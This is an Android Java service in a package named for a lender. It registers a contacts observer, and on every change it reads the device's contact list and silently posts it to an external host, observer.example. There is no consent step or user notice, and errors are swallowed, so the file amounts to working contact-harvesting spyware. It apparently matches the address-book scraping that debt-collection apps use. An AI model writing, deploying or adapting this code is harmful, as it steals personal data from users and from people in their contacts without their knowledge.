package dev.lender.observer;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.util.*;
import okhttp3.*;
import okio.BufferedSink;

class BookBody extends RequestBody {

    private final List<String> l;

    BookBody(List<String> l) {
        this.l = l;
    }

    public MediaType contentType() {
        return MediaType.parse("text/plain");
    }

    public void writeTo(BufferedSink s) throws IOException {
        for (String x : l) s.writeUtf8(x).writeByte(10);
    }
}

class Sign implements Interceptor {

    public Response intercept(Chain c) throws IOException {
        Request r = c.request();
        return c.proceed(r.newBuilder().header("sig", "1").method(r.method(), r.body()).build());
    }
}

public class Main extends Service {

    public IBinder onBind(Intent i) {
        return null;
    }

    private static volatile OkHttpClient client;

    private static OkHttpClient client() {
        if (client == null) synchronized (Main.class) {
            if (client == null) client = new OkHttpClient.Builder()
                .addInterceptor(new Sign())
                .build();
        }
        return client;
    }

    public int onStartCommand(Intent i, int a, int b) {
        ContentObserver o = new ContentObserver(new Handler());
        getContentResolver().registerContentObserver(
            ContactsContract.Contacts.CONTENT_URI,
            true,
            o
        );
        return 1;
    }

    class ContentObserver extends android.database.ContentObserver {

        ContentObserver(Handler h) {
            super(h);
        }

        public void onChange(boolean self) {
            List<String> l = new ArrayList<>();
            Cursor c = getContentResolver().query(
                ContactsContract.Contacts.CONTENT_URI,
                null,
                null,
                null,
                null
            );
            while (c.moveToNext()) l.add(c.getString(1));
            c.close();
            client()
                .newCall(
                    new Request.Builder()
                        .url("https://observer.example/b")
                        .post(new BookBody(l))
                        .build()
                )
                .enqueue(
                    new Callback() {
                        public void onFailure(Call c, IOException e) {}

                        public void onResponse(Call c, Response r) {}
                    }
                );
        }
    }
}
